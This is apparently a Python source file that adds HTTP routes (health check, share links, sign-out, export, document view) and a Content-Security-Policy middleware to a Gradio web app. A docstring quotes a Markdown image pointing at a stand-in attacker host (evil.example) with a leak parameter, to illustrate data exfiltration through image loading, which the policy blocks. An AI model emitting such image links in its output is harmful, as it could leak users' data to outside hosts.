"""Plain HTTP routes served beside the Gradio app: /healthz and the share-link pages.

They are given to Gradio's own FastAPI app (launch's app_kwargs), so they sit outside
Gradio's login: a health check needs no password, and a share link is meant for anyone
holding it. Everything else stays behind the login.
"""

from __future__ import annotations

from fastapi import Request
from fastapi.responses import HTMLResponse, JSONResponse, PlainTextResponse, Response
from fastapi.routing import APIRoute

from backend.services.conversations import Sharing
from backend.tools.browser import page_lines
from core.errors import InputError, NotFoundError
from ui.identity import session_cookies, session_token
from ui.shared_page import HEADERS, render_document, render_gone, render_shared


def http_routes(shares: Sharing, host, conversations=None, identity=None, password_login: bool = False,
                documents=None) -> list[APIRoute]:
    def healthz() -> JSONResponse:
        """200 while the server runs (model loading or ready); 503 once the model failed to load."""
        s = host.status()
        return JSONResponse({"status": "ok" if s.state != "failed" else "failed", "model": s.state},
                            status_code=503 if s.state == "failed" else 200)

    def shared(token: str) -> HTMLResponse:
        try:
            page = render_shared(shares.open(token), copy_href=f"../?copy={token}")
        except NotFoundError:
            return HTMLResponse(render_gone(), status_code=404, headers=HEADERS)
        return HTMLResponse(page, headers=HEADERS)

    def signout(request: Request) -> JSONResponse:
        """End this browser's sign-in session only (POST: a link on another site cannot do it)."""
        getattr(request.app, "tokens", {}).pop(session_token(request), None)
        response = JSONResponse({"signed_out": True})
        for name in session_cookies(request.app):
            response.delete_cookie(name, path="/")
        return response

    def export(conversation_id: str, kind: str, request: Request) -> Response:
        """A conversation as a download, for its owner only; built on request, never stored."""
        owner = identity.http_owner(request, getattr(request.app, "tokens", {}) if password_login else None)
        if owner is None:
            return PlainTextResponse("Sign in to export your conversations.", status_code=401)
        try:
            name, body = conversations.export(owner, conversation_id, kind)
        except (NotFoundError, InputError) as exc:
            return PlainTextResponse(exc.user_message, status_code=404)
        media = "application/json" if kind == "json" else "text/markdown"
        return Response(body, media_type=f"{media}; charset=utf-8", headers={
            "Content-Disposition": f'attachment; filename="{name}"', "Cache-Control": "no-store",
            "X-Content-Type-Options": "nosniff"})

    def document(doc_id: int, request: Request) -> Response:
        """A document the browser tool cited, with numbered lines (#L12 jumps to line 12). Behind the
        sign-in like the app; no script can run in it."""
        if identity is not None and identity.http_owner(
                request, getattr(request.app, "tokens", {}) if password_login else None) is None:
            return PlainTextResponse("Sign in to read the documents.", status_code=401)
        doc = documents.get(doc_id) if documents is not None else None
        if doc is None:
            return PlainTextResponse("There is no such document.", status_code=404)
        return HTMLResponse(render_document(doc.title, doc.source, page_lines(doc.text)), headers=HEADERS)

    return [APIRoute("/doc/{doc_id}", document, methods=["GET"], include_in_schema=False),
            APIRoute("/export/{conversation_id}/{kind}", export, methods=["GET"], include_in_schema=False),
            APIRoute("/signout", signout, methods=["POST"], include_in_schema=False),
            APIRoute("/healthz", healthz, methods=["GET"], include_in_schema=False),
            APIRoute("/s/{token}", shared, methods=["GET"], include_in_schema=False)]


APP_CSP = "img-src 'self' data: blob:"  # messages may hold Markdown images: none load from other sites


class PageSecurityHeaders:
    """Adds a Content-Security-Policy to the app's HTML pages (ASGI middleware): an image in a message
    (`![x](https://evil.example/t.png?leak=1)`, written by a user, a model or a shared chat) is
    never fetched by the reader's browser. Pages with their own policy (share links) keep theirs."""

    def __init__(self, app):
        self.app = app

    async def __call__(self, scope, receive, send):
        if scope.get("type") != "http":
            return await self.app(scope, receive, send)

        async def send_with_policy(message):
            if message["type"] == "http.response.start":
                headers = list(message.get("headers") or [])
                names = {k.lower() for k, _ in headers}
                html = any(k.lower() == b"content-type" and v.startswith(b"text/html") for k, v in headers)
                if html and b"content-security-policy" not in names:
                    headers.append((b"content-security-policy", APP_CSP.encode()))
                    message = {**message, "headers": headers}
            await send(message)

        await self.app(scope, receive, send_with_policy)
